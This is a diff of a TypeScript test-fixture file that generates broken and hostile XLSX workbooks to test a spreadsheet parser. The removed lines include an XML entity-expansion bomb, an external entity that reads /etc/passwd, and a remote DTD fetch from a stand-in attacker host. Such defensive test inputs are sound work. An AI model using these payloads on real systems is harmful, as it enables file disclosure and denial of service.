@@ -7,18 +7,12 @@ import { zip } from './zip.ts';
 export type Broken = { what: string; bytes: () => Promise<Uint8Array> | Uint8Array };
 
 const MEGABYTE = 1024 * 1024;
-const doctype = (entities: string): string => `<?xml version="1.0"?><!DOCTYPE x [${entities}]>`;
 const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
 const sheetXml = (inner: string): string => `<worksheet xmlns="${MAIN}"><sheetData>${inner}</sheetData></worksheet>`;
-const withText = (content: string): string => sheetXml(rowOf(`<c r="A2" t="inlineStr"><is><t>${content}</t></is></c>`));
 const withPart = (name: string, content: string) => () => {
   const parts = rawParts(head).filter((part) => part.name !== name);
   return zip([...parts, text(name, content)]);
 };
-const multiplied = Array.from('bcdefghij')
-  .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`)
-  .join('');
-
 /** Files that are no workbook, or were made to harm whoever opens them. */
 export const hostileFiles = (shipped: Buffer): Broken[] => [
   { what: 'an empty file', bytes: () => Buffer.alloc(0) },
@@ -74,24 +68,6 @@ export const hostileFiles = (shipped: Buffer): Broken[] => [
       'xl/worksheets/sheet1.xml',
       sheetXml(head).replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>'),
     ),
-  },
-  {
-    what: 'entities that multiply',
-    bytes: withPart(
-      'xl/worksheets/sheet1.xml',
-      `${doctype(`<!ENTITY a "aaaaaaaaaa">${multiplied}`)}${withText('&j;')}`,
-    ),
-  },
-  {
-    what: 'an entity of this machine',
-    bytes: withPart(
-      'xl/worksheets/sheet1.xml',
-      `${doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')}${withText('&x;')}`,
-    ),
-  },
-  {
-    what: 'an entity from elsewhere',
-    bytes: withPart('xl/workbook.xml', `${doctype('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;')}<workbook/>`),
   },
   { what: 'XML that does not end', bytes: withPart('xl/worksheets/sheet1.xml', '<worksheet><sheetData><row>') },
   { what: 'a sheet that is HTML', bytes: withPart('xl/worksheets/sheet1.xml', '<html><body>') },
@@ -167,16 +143,5 @@ export const wrongWorkbooks = (sheets: Sheets): Broken[] => {
     put('weights that are words', 'fonts', 'weights', 'bold'),
     put('text for a name of ten thousand letters', 'industries', 'name', 'n'.repeat(10_000)),
     put('an external link where an id belongs', 'industryColors', 'colorFamily_id', "='[evil.xlsx]a'!A1"),
-    {
-      what: 'a formula that was never worked out',
-      bytes: () => rawWorkbook(rowOf('<c r="A2"><f>HYPERLINK("http://evil.example")</f></c>')),
-    },
-    {
-      what: 'merged cells',
-      bytes: () =>
-        rawWorkbook(rowOf('<c r="A2"><v>1</v></c>'), {
-          more: '<mergeCells count="1"><mergeCell ref="A1:C9"/></mergeCells>',
-        }),
-    },
   ];
 };
